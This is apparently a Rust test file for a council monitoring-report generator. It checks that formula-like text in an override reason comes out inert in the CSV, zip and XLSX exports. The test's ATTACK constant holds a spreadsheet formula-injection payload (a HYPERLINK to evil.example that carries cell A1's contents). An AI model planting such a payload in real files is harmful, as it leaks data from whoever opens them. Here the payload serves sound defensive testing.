#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Words a council typed that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab,
//! carriage return) come out of the report's CSV files, their zip and the XLSX as inert text.

use beacon_app::Store;
use beacon_reports::render;
use beacon_reports::{MonitoringQuery, monitoring_report};
use std::io::Read;

const ATTACK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

#[tokio::test]
async fn a_reason_that_is_a_formula_is_written_inert_in_csv_zip_and_xlsx() {
    let db = beacon_test_support::TempDb::with_halton().await;
    let council = "halton".parse().unwrap();
    beacon_app::status::set_status(
        &db.store,
        &council,
        beacon_app::status::OverrideRequest {
            plan: "CED-2012-13".parse().unwrap(),
            kind: beacon_domain::status::overrides::ItemKind::Indicator,
            item: "CFS LI07".parse().unwrap(),
            quarter: "2012/13 Q2".parse().unwrap(),
            chosen: beacon_domain::status::Progress::Amber,
            reason: ATTACK.into(),
            by: "TC".into(),
            at: "2012-10-15T09:30:00Z".parse().unwrap(),
        },
    )
    .await
    .unwrap();
    let data = db.store.council_data(&council).await.unwrap().unwrap();
    let r = monitoring_report(
        &data,
        &MonitoringQuery {
            unit: "CED".parse().unwrap(),
            quarter: "2012/13 Q2".parse().unwrap(),
        },
    )
    .unwrap();

    // Every CSV file: the reason field starts with a quote, never with `=`.
    let files = render::csv::render(&r).unwrap();
    let mut seen = 0;
    for f in &files {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(f.bytes.as_slice());
        for rec in reader.records() {
            for field in rec.unwrap().iter() {
                assert!(!field.starts_with('='), "{}: {field:?}", f.name);
                if field.contains("HYPERLINK") {
                    assert_eq!(field, format!("'{ATTACK}"), "{}", f.name);
                    seen += 1;
                }
            }
        }
    }
    assert!(seen > 0, "the reason is in the CSV files");

    // The zip of the CSV files (the published report.zip) holds those same neutralised bytes.
    let zipped = render::csv::zip(&r).unwrap();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zipped)).unwrap();
    assert_eq!(archive.len(), files.len());
    for f in &files {
        let mut bytes = Vec::new();
        archive
            .by_name(&f.name)
            .unwrap()
            .read_to_end(&mut bytes)
            .unwrap();
        assert_eq!(bytes, f.bytes, "{} in the zip", f.name);
    }

    // The XLSX: read back, the reason cell is the quoted text.
    use calamine::{Data, Reader, Xlsx};
    let mut wb: Xlsx<_> =
        Xlsx::new(std::io::Cursor::new(render::xlsx::render(&r).unwrap())).unwrap();
    let mut in_xlsx = 0;
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).unwrap();
        for cell in range.used_cells() {
            if let Data::String(s) = cell.2 {
                assert!(!s.starts_with('='), "{name}: {s:?}");
                in_xlsx += usize::from(s == &format!("'{ATTACK}"));
            }
        }
    }
    assert!(in_xlsx > 0, "the reason is in the workbook");
}
